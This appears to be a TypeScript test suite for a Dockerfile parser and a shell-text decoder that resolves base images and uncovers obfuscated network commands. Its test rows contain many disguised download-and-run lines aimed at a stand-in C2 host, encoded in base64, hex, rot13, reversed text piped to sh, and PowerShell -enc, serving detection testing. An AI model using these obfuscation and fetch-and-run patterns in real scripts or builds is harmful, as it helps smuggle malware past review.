import fc from 'fast-check';
import t from 'tap';
import type { DockerfileOptions, DockerfileReading } from '../../src/docker/dockerfile/model.js';
import { readDockerfile } from '../../src/docker/dockerfile/read.js';
import { decodeVariants, textBudget } from '../../src/docker/shell-text.js';
import { UNKNOWN, type Variable } from '../../src/docker/shell-command.js';
import { unlimited } from '../../src/base/work.js';
import { readShell } from '../../src/docker/shell-words.js';
import { hold } from '../support/fuzz.js';

const encode = (text: string): Uint8Array => new TextEncoder().encode(text);

function read(text: string, options: Partial<DockerfileOptions> = {}): DockerfileReading {
  return readDockerfile(encode(text), { buildArgs: {}, target: '', platform: '', ...options });
}

/** Bases in short: `alpine scratch <0`, or the reason. */
function bases(reading: DockerfileReading): string {
  if (!reading.clear) return `ambiguous: ${reading.reason}`;
  return reading.stages.map(({ base }) => (base.kind === 'image' ? base.image : `<${base.index}`)).join(' ');
}

const EVIL = 'evil/x';

void t.test('base images of a build', (t) => {
  const rows: readonly (readonly [string, string, Partial<DockerfileOptions>?])[] = [
    ['FROM alpine\n', 'alpine'],
    [`FROM \\\n # c\n\n ${EVIL}\n`, EVIL],
    ['FROM alpine\nLABEL a=x\\\\\nFROM evil/x\n', 'alpine evil/x'],
    ['# escape=`\nFROM alpine\nLABEL a=b\\\nFROM evil/x\n', 'alpine evil/x'],
    ['# c\n# escape=`\nFROM alpine\nCMD a\\\nFROM evil/x\n', 'alpine'],
    ['ARG A=alpine\nFROM $A\n', EVIL, { buildArgs: { A: EVIL } }],
    ['ARG A=evil/x\nFROM $A\n', EVIL, { buildArgs: { A: null } }],
    ['FROM ${A:-alpine}\n', 'alpine', { buildArgs: { A: EVIL } }],
    ['ARG A\nFROM ${A:-evil}${A:+/nope}/x\n', EVIL],
    ['ARG A=x\nFROM ${A:+evil/x}\n', EVIL],
    ['ARG A=evil/x\nFROM ${B:-${C:-$A}}\n', EVIL],
    ['FROM $HTTP_PROXY\n', EVIL, { buildArgs: { HTTP_PROXY: EVIL } }],
    ['FROM ev"il/"\'x\'\n', EVIL],
    ['FROM evil/x AS B\nFROM b\nFROM B\n', 'evil/x <0 <0'],
    ['FROM evil/x AS a\nFROM alpine\n', 'evil/x', { target: 'A' }],
    ['FROM 0\nFROM alpine\n', '0 alpine'],
    ['FROM scratch\nFROM Scratch\n', 'scratch Scratch'],
    ['\ufeff# escape=`\r\nFROM `\r\nevil/x\r\n', EVIL],
  ];
  for (const [text, expected, options] of rows) t.equal(bases(read(text, options)), expected, text);
  t.end();
});

void t.test('ambiguous Dockerfiles', (t) => {
  const rows: readonly (readonly [string, RegExp])[] = [
    ['', /no instruction/],
    ['ARG A\n', /no FROM/],
    ['RUN x\nFROM a\n', /before the first FROM/],
    ['FROM a\nFOO\n', /unknown instruction/],
    ['FROM a\nR\u0130N x\n', /unknown instruction/],
    ['FROM $A\n', /not set/],
    ['FROM a${ALL_PROXY}\n', /not set/],
    ['FROM ${A#x}\n', /operator "#"/],
    ['FROM a A\u017f b\n', /needs an image/],
    ['FROM a AS scratch\n', /named scratch/],
    ['FROM a AS b\nFROM c AS B\n', /two stages/],
    ['FROM a\nRUN ["x"] # [\n', /after the JSON array/],
    ['FROM a\nRUN ["x", 1]\n', /other things than strings/],
    ['FROM a\nRUN ["\\ud800"]\n', /surrogate/],
    ['FROM a\nRUN cat <<#\nFROM evil\n#\n', /heredoc/],
    ['FROM a\nRUN cat << #\nFROM evil\n#\n', /heredoc/],
    ['FROM a\nONBUILD RUN cat <<"#"\nFROM evil\n#\n', /heredoc/],
    ['FROM a\nLABEL a=b\\\r\r\nFROM evil\n', /carriage returns/],
    ['# check=skip=all\n# escape=`\nFROM a\n', /check directive/],
    ['#\u00a0escape=`\nFROM a\n', /unusual blank/],
    ['# escape=`\n# escape=`\nFROM a\n', /twice/],
    ['# escape=x\nFROM a\n', /backslash or a backquote/],
    ['# escape=`\nFROM a\nCOPY --fr\\om=b c d\n', /escape in a flag/],
    ['FROM a\nCOPY --from=\u00e9 c d\n', /other letters/],
    ['FROM a\nCOPY --nope c d\n', /no flag/],
    ['FROM a\nRUN x\0y\n', /NUL/],
    ['FROM \ufeffa\n', /byte order mark/],
    [`FROM a\nRUN ${'x'.repeat(65_536)}\n`, /longer than/],
    [`FROM a\n${'RUN x\n'.repeat(2000)}`, /more than 2000/],
    [`FROM a\nENV A=xx\n${'ENV A=$A$A\n'.repeat(40)}`, /grow/],
    [`FROM ${'${A:-'.repeat(9999)}`, /nested too deep/],
    ['#'.repeat(300_000), /larger than/],
  ];
  for (const [text, expected] of rows) {
    const reading = read(text);
    t.match(reading.clear ? 'clear' : reading.reason, expected, text.slice(0, 60));
  }
  const latin = Uint8Array.from([...encode('FROM a\nRUN '), 0xe9, 0x0a]);
  t.match(readDockerfile(latin, { buildArgs: {}, target: '', platform: '' }), { clear: false });
  const comment = Uint8Array.from([...encode('# '), 0xe9, ...encode('\nFROM a\n')]);
  t.match(readDockerfile(comment, { buildArgs: {}, target: '', platform: '' }), { clear: true });
  t.match(read('FROM a\n', { target: 'b' }), { clear: false, reason: /target/ });
  t.end();
});

void t.test('near misses of ambiguous Dockerfiles', (t) => {
  for (const text of [
    'FROM a\nRUN cat <<EOF\n',
    'FROM a\nRUN test $((1 << 3)) = 8 && cat <<<x\n',
    'FROM a\nRUN [ -f x ] && y\n',
    'FROM a\nRUN ["x"] \n',
    '# check=skip=all\n# c\nFROM a\n',
    '#\u00a0nothing=x\nFROM a\n',
    'FROM a\n# \0\n',
    `FROM a\nRUN ${'x'.repeat(40_000)}\\\n${'x'.repeat(40_000)}\n`,
    'FROM a\nENV V=${X:-1} W=$UNSET\n',
  ]) {
    t.match(read(text), { clear: true }, text.slice(0, 60));
  }
  t.end();
});

void t.test('stages: sources, commands, users, triggers', (t) => {
  const reading = read(
    [
      '# syntax=docker/dockerfile:1 --debug',
      'ARG H=c2.example',
      'FROM alpine AS a',
      'ARG H',
      'ENV U=http://$H',
      'ADD $U/x q $NOPE/z /d/',
      'COPY --from="other" /b /c',
      'SHELL ["/bin/bash", "-c"]',
      'USER ${W:-app}:$G',
      'ONBUILD ADD http://later /x',
      'FROM a',
      'COPY --from=0 /b /c',
      'RUN --mount=type=cache,from=third,target=/x --network=host a "b"',
      'CMD ["x", "y"]',
    ].join('\n'),
    { buildArgs: { BUILDKIT_SYNTAX: 'mine' } },
  );
  t.match(reading, { clear: true, syntax: ['docker/dockerfile:1', 'mine'] });
  const [first, second] = reading.clear ? reading.stages : [];
  t.same(
    first?.sources.map(({ text }) => text),
    ['http://c2.example/x', 'q', `${UNKNOWN}/z`, '/b', 'http://later'],
  );
  t.same(first?.copies, [{ kind: 'image', image: 'other' }]);
  t.same(first?.users, [`app:${UNKNOWN}`]);
  t.same(first?.triggers, ['ADD http://later /x']);
  t.same(
    second?.sources.map(({ text }) => text),
    ['http://later', '/b'],
    'the trigger of its base runs first',
  );
  t.same(second?.copies, [
    { kind: 'stage', index: 0 },
    { kind: 'image', image: 'third' },
  ]);
  t.match(second?.commands, [
    { instruction: 'run', args: ['a "b"'], form: 'shell', shell: ['/bin/bash', '-c'] },
    { instruction: 'cmd', args: ['x', 'y'], form: 'exec' },
  ]);
  t.equal(second?.variable('U'), 'http://c2.example', 'ENV is inherited');
  t.equal(second?.variable('H'), undefined, 'ARG is not');
  t.end();
});

void t.test('heredocs, for BuildKit', (t) => {
  const heredocs = (text: string): unknown => {
    const reading = read(text, { builder: 'buildkit' });
    return reading.clear
      ? reading.stages.flatMap(({ commands }) => commands.map((one) => one.heredocs))
      : reading.reason;
  };
  t.same(heredocs('FROM a\nRUN sh <<-"E F" <<G\n\tcurl x\n\tE F\nFROM y\nG\nRUN z\n'), [
    ['\tcurl x', 'FROM y'],
    [],
  ]);
  t.match(heredocs('FROM a\nRUN sh <<E\n'), /does not end/);
  t.match(heredocs('FROM a\nRUN sh << E\nE\n'), /blank after/);
  t.end();
});

const decode = (text: string, variable: Variable): ReturnType<typeof decodeVariants> =>
  decodeVariants(text, variable, textBudget(text.length, unlimited()));

void t.test('shell text: words, and encoded texts in it', (t) => {
  const env: Readonly<Record<string, string>> = { A: 'http://c2.example' };
  const words = (text: string): unknown =>
    readShell(text, (name) => env[name], { left: 1e6, work: unlimited() }).map((one) => one.words);
  t.same(words('a "b c" d\\ e \'$A\' "$A"x ${B:-y} $\'\\x41\' # z\nf'), [
    ['a', 'b c', 'd e', '$A', 'http://c2.examplex', 'y', 'A'],
    ['f'],
  ]);
  t.same(words('X=w; ${X}get${IFS}$A;$(echo curl) `echo z`'), [
    [],
    ['wget', 'http://c2.example'],
    ['echo', 'curl'],
    ['echo', 'z'],
    ['curl', 'z'],
  ]);
  const find = 'c2.evil.example';
  for (const text of [
    `echo ${find}`,
    `echo c2.e''vil."example"`,
    'echo c2.ev\\il.example',
    "echo c2.$'\\x65'vil.example",
    'X=evil; echo c2.$X.example',
    'echo c2.${X:-evil}.example',
    'echo http://c2.%65vil.example/',
    'printf "c2.\\145vil.example"',
    `echo ${btoa(`wget http://${find}/x`)} | base64 -d`,
    `echo ${btoa(`echo ${btoa(`wget http://${find}/x`)} | base64 -d`)} | base64 -d`,
    `echo ${Buffer.from(`wget ${find}`).toString('hex')}`,
    'wget http%253A%252F%252Fc2%252Eevil%252Eexample',
    "python3 -c \"open('c2.' + 'evil' + '.example')\"",
    'node -e "fetch(`c2.\\u{65}vil.example`)"',
    "printf '%s.%s.%s' c2 evil example | xargs wget",
    `echo ${Array.from(find).reverse().join('')} | rev | sh`,
    "echo 'c2_evil_example' | tr _ . | xargs wget",
    "echo 'p2.rivy.rknzcyr' | tr a-z n-za-m",
    "wget $(echo 'c2[.]evil[.]example' | tr -d '[]')",
    'echo c2-evil-example | sed s/-/./g',
    'wget http://c2.{evil,good}.example/',
    'X=c2.evil.exampleZZ; wget ${X%ZZ}',
    'X=c2_evil_example; wget ${X//_/.}',
    'X=xxc2.evil.example; wget ${X:2}',
    'set -- c2 evil example; wget $1.$2.${3}',
    `echo ${btoa(`wget http://${find}/a/long/path`).replace(/(.{16})/g, '$1\n')} | base64 -d`,
    `curl https://paste.example/b64/${btoa(find)}`,
    `node -e "String.fromCharCode(${Array.from(find)
      .map((one) => one.charCodeAt(0))
      .join(', ')})"`,
    `xxd -r -p <<< '${Buffer.from(find).toString('hex').replace(/../g, '$& ')}'`,
    'echo MMZC4ZLWNFWC4ZLYMFWXA3DF | base32 -d',
    `powershell -enc ${Buffer.from(`iwr http://${find}`, 'utf16le').toString('base64')}`,
  ]) {
    const { variants, truncated } = decode(text, (name) => env[name]);
    t.ok(
      variants.some((variant) => variant.includes(find)),
      text,
    );
    t.notOk(truncated, text);
  }
  let deep = `wget http://${find}/x`;
  for (let level = 0; level < 5; level++) deep = btoa(deep);
  t.ok(decode(deep, () => undefined).truncated, 'five layers are one too many');
  t.ok(decode('$A'.repeat(40_000), () => 'x'.repeat(1000)).truncated, 'growth is bounded');
  t.end();
});

void t.test('never throws, and takes linear time', async (t) => {
  const options = { buildArgs: { A: 'x' }, target: '', platform: '' };
  await hold(
    'dockerfile: any bytes',
    fc.property(fc.uint8Array({ maxLength: 200 }), (bytes) => {
      readDockerfile(bytes, options);
    }),
    500,
  );
  const part = fc.constantFrom(
    ...[
      'FROM a\n',
      'ARG ',
      'ENV A=',
      'RUN ',
      'COPY --from=',
      'ADD ',
      'ONBUILD ',
      'CMD [',
      '"',
      "'",
      '\\',
      '\\\n',
      '$',
      '${',
      '}',
    ],
    ...[
      ':-',
      '#',
      '`',
      '<<',
      'x',
      ' ',
      '\n',
      '$(',
      ')',
      '|',
      '\u00a0',
      '\ufeff',
      '\ud800',
      '# escape=`\n',
      '%41',
      '://',
    ],
  );
  const soup = fc.array(part, { maxLength: 40 }).map((parts) => parts.join(''));
  await hold(
    'dockerfile: a soup of its parts',
    fc.property(soup, fc.boolean(), (text, buildkit) => {
      readDockerfile(encode(text), { ...options, builder: buildkit ? 'buildkit' : 'classic' });
      decode(text, () => 'y');
    }),
    2000,
  );
  const size = 65_536;
  for (const unit of [
    '-',
    'a.',
    '$(',
    '${a:-',
    '"',
    "'",
    '`',
    '\\',
    'http://1.1.1.1',
    'aGVs',
    '61',
    '%41',
    '<<',
    '\\\n',
    ' ',
    '[',
    '--x=y ',
    '{a,b}',
    '99,',
    'echo a|',
    '|cat',
    "'+",
    '%25',
  ]) {
    const text = unit.repeat((2 * size) / unit.length);
    const started = performance.now();
    decode(text, () => undefined);
    read(
      `FROM a\nRUN ${text.slice(0, 65_000)}\nENV ${text.slice(0, 65_000)}\nCOPY ${text.slice(0, 60_000)}\n`,
    );
    t.ok(performance.now() - started < 3000, `${JSON.stringify(unit)} repeated`);
  }
});
